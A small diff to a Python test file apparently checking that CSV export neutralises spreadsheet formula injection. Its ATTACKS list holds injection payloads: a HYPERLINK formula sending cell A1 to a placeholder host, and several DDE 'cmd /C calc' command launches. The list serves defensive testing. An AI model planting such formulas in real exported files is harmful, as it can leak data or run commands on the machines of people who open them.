@@ -17,7 +17,8 @@ import pandas as pd
 import pytest
 
 from tests.ingest.conftest_git import RepoBuilder
-from vsm_app.report.tables import neutralise_cell, write_table_csv, write_tables
+from vsm_app.report.tables import neutralise_cell
+from vsm_app.services.tables import write_table_csv, write_tables
 
 ATTACKS = ["=HYPERLINK(\"http://x.invalid?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
